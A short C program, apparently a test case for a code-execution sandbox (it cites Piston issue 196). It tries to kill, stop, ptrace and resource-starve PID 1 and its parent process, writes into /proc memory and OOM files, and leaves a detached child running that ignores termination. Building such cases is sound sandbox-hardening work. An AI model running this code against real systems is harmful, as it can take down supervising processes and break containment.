// tries: kills, stops, traces or starves init, which reports the end of the run
// seen-in: Piston issue 196
// walls: keeper
// needs: x86_64
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static void harm(pid_t pid) {
    int signals[] = {SIGSTOP, SIGTSTP, SIGKILL, SIGSEGV, SIGABRT, SIGTERM, SIGCHLD, SIGPIPE};
    for (unsigned i = 0; i < sizeof signals / sizeof *signals; i++) {
        kill(pid, signals[i]);
        union sigval value = {0};
        sigqueue(pid, signals[i], value);
        int pidfd = syscall(SYS_pidfd_open, pid, 0);
        syscall(SYS_pidfd_send_signal, pidfd, signals[i], NULL, 0);
        close(pidfd);
    }
    ptrace(PTRACE_ATTACH, pid, 0, 0);
    ptrace(PTRACE_SEIZE, pid, 0, 0);
    struct rlimit none = {0, 0};
    for (int resource = 0; resource < 16; resource++) prlimit(pid, resource, &none, NULL);
    setpriority(PRIO_PROCESS, pid, 19);
    char byte = 0, path[64];
    struct iovec own = {&byte, 1}, other = {(void *)0x400000, 1};
    process_vm_writev(pid, &own, 1, &other, 1, 0);
    const char *files[] = {"mem", "oom_score_adj", "clear_refs", "fd/0", "fd/3", "fd/4"};
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        int fd = open(path, O_RDWR | O_NONBLOCK);
        if (fd >= 0 && write(fd, "1000", 4) > 0) _exit(99);
        close(fd);
    }
}

int main(void) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    harm(1);
    harm(getppid());
    for (int fd = 3; fd < 64; fd++) close(fd);
    puts("attempted");
    fflush(stdout);
    // Survivors hold its streams open, and fill them.
    if (fork() == 0) {
        setsid();
        signal(SIGTERM, SIG_IGN);
        fcntl(1, F_SETFL, O_NONBLOCK);
        for (;;) write(1, "", 0);
    }
    return 0;
}
